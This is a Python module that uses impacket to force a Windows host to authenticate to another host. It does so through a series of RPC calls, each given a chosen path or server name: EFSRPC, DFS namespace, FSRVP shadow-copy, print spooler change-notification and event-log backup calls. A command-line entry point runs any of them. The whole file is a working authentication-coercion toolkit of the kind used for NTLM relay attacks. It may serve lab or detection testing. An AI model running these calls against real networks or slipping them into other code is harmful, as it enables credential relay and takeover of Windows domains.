"""Has the responder go to another host, by RPC calls of impacket's that take a path or the name of a host.

Each function makes one call; the path or the name is the argument. Where impacket has no structure for an operation, it is
declared here after the document that is named.
"""

import sys

from impacket.dcerpc.v5 import even, par, rprn
from impacket.dcerpc.v5.dtypes import DWORD, LONG, NULL, RPC_UNICODE_STRING, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.uuid import uuidtup_to_bin

from rpc_interfaces import INTERFACES
from rpc_originator import pipe, tcp

EFSRPC = uuidtup_to_bin(("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0"))
EFSRPC_ON_LSARPC = uuidtup_to_bin(("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0"))
NETDFS = uuidtup_to_bin(("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0"))
FSRVP = uuidtup_to_bin(("a8e0653c-2744-4389-a61d-7373df8b2292", "1.0"))

# [MS-RPRN] 2.2.3.6.
PRINTER_CHANGE_ADD_JOB = 0x100


class EfsRpcOpenFileRaw(NDRCALL):
    """[MS-EFSR] 3.1.4.2.1."""

    opnum = 0
    structure = (("FileName", WSTR), ("Flags", LONG))


class EfsRpcEncryptFileSrv(NDRCALL):
    """[MS-EFSR] 3.1.4.2.5."""

    opnum = 4
    structure = (("FileName", WSTR),)


class NetrDfsAddStdRoot(NDRCALL):
    """[MS-DFSNM] 3.1.4.4.1."""

    opnum = 12
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("Comment", WSTR), ("ApiFlags", DWORD))


class NetrDfsRemoveStdRoot(NDRCALL):
    """[MS-DFSNM] 3.1.4.4.2."""

    opnum = 13
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("ApiFlags", DWORD))


class IsPathSupported(NDRCALL):
    """[MS-FSRVP] 3.1.4.9."""

    opnum = 8
    structure = (("ShareName", WSTR),)


class IsPathShadowCopied(NDRCALL):
    """[MS-FSRVP] 3.1.4.10."""

    opnum = 9
    structure = (("ShareName", WSTR),)


def call(bound, request, **parameters):
    """Makes the call; what it returns does not matter."""
    for name, value in parameters.items():
        request[name] = value
    with bound as client:
        client.call(request.opnum, request)
        client.recv()


def file_opened(path):
    call(pipe("lsarpc", EFSRPC_ON_LSARPC), EfsRpcOpenFileRaw(), FileName=path + "\0", Flags=0)


def file_encrypted(path):
    call(pipe("efsrpc", EFSRPC), EfsRpcEncryptFileSrv(), FileName=path + "\0")


def root_added(server):
    parameters = {"ServerName": server + "\0", "RootShare": "share\0", "Comment": "\0", "ApiFlags": 0}
    call(pipe("netdfs", NETDFS), NetrDfsAddStdRoot(), **parameters)


def root_removed(server):
    call(pipe("netdfs", NETDFS), NetrDfsRemoveStdRoot(), ServerName=server + "\0", RootShare="share\0", ApiFlags=0)


def dfs_version_asked():
    """NetrDfsManagerGetVersion, [MS-DFSNM] 3.1.4.1.1."""
    with pipe("netdfs", NETDFS) as client:
        client.call(0, b"")
        client.recv()


def share_supported(share):
    call(pipe("FssagentRpc", FSRVP), IsPathSupported(), ShareName=share + "\0")


def share_shadow_copied(share):
    call(pipe("FssagentRpc", FSRVP), IsPathShadowCopied(), ShareName=share + "\0")


def fsrvp_version_asked():
    """GetSupportedVersion, [MS-FSRVP] 3.1.4.1."""
    with pipe("FssagentRpc", FSRVP) as client:
        client.call(0, b"")
        client.recv()


def backup_log_opened(path):
    """OpenBackupEventLog of the Windows API."""
    name = RPC_UNICODE_STRING()
    name["Data"] = path
    call(
        pipe("eventlog", even.MSRPC_UUID_EVEN),
        even.ElfrOpenBELW(),
        UNCServerName=NULL,
        BackupFileName=name,
        MajorVersion=1,
        MinorVersion=1,
    )


def changes_announced_to(machine):
    """FindFirstPrinterChangeNotification of the Windows API."""
    with pipe("spoolss", rprn.MSRPC_UUID_RPRN) as client:
        printer = rprn.hRpcOpenPrinter(client, "\\\\192.0.2.20\0")["pHandle"]
        rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
            client, printer, PRINTER_CHANGE_ADD_JOB, pszLocalMachine=machine + "\0"
        )
        rprn.hRpcClosePrinter(client, printer)


def printer_opened():
    """OpenPrinter of the Windows API, and no more."""
    with pipe("spoolss", rprn.MSRPC_UUID_RPRN) as client:
        rprn.hRpcClosePrinter(client, rprn.hRpcOpenPrinter(client, "\\\\192.0.2.20\0")["pHandle"])


def printer_opened_asynchronously(name):
    """OpenPrinter of the Windows API since Vista."""
    request = par.RpcAsyncOpenPrinter()
    request["pPrinterName"] = name + "\0"
    request["pDatatype"] = NULL
    request["pDevModeContainer"]["pDevMode"] = NULL
    request["AccessRequired"] = 8
    request["pClientInfo"]["Level"] = request["pClientInfo"]["ClientInfo"]["tag"] = 1
    client_info = request["pClientInfo"]["ClientInfo"]["pClientInfo1"]
    client_info["dwSize"] = 28
    client_info["pMachineName"] = "\\\\ORIGINATOR\0"
    client_info["pUserName"] = "administrator\0"
    uuid, version, port, _ = INTERFACES["IRemoteWinspool"]
    with tcp(port, uuidtup_to_bin((uuid, version))) as client:
        client.call(request.opnum, request, uuid=par.MSRPC_UUID_WINSPOOL)
        client.recv()


if __name__ == "__main__":
    procedure, *arguments = sys.argv[1:]
    globals()[procedure](*arguments)
